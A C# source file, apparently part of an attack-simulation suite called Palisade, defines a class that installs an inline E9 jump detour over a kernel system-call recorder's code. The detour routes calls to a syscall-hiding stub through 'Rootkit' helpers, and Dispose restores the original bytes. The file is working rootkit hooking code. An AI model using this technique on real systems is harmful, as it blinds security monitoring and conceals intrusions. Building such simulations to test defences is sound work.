namespace Palisade.Attacks.InlineDetour;

/// <summary>
/// Writes <c>E9 rel32</c> (jmp near) over the first five bytes of the kernel's system call recorder body, aimed at
/// <see cref="SyscallHiding"/>'s stub. Direct calls from compiled code take the detour too, since the body itself
/// changed. Dispose restores the original bytes.
/// </summary>
public sealed class E9DetourAttack : IDisposable
{
    private nint _patched;
    private byte[]? _original;

    /// <summary>Installs the detour.</summary>
    /// <exception cref="InvalidOperationException">The replacement lies more than 2 GB away.</exception>
    public void Install()
    {
        nint body = Rootkit.BodyOf(SyscallHiding.Target);
        nint destination = Rootkit.StubOf(SyscallHiding.Replacement);
        long rel = (long)destination - ((long)body + 5);
        if (rel is < int.MinValue or > int.MaxValue)
        {
            throw new InvalidOperationException("The replacement is out of rel32 reach.");
        }

        byte[] jump = new byte[5];
        jump[0] = 0xE9;
        BitConverter.TryWriteBytes(jump.AsSpan(1), (int)rel);
        _original = Rootkit.Write(body, jump);
        _patched = body;
    }

    /// <summary>Restores the original bytes.</summary>
    public void Dispose()
    {
        if (_original is not null)
        {
            Rootkit.Write(_patched, _original);
            _original = null;
        }
    }
}
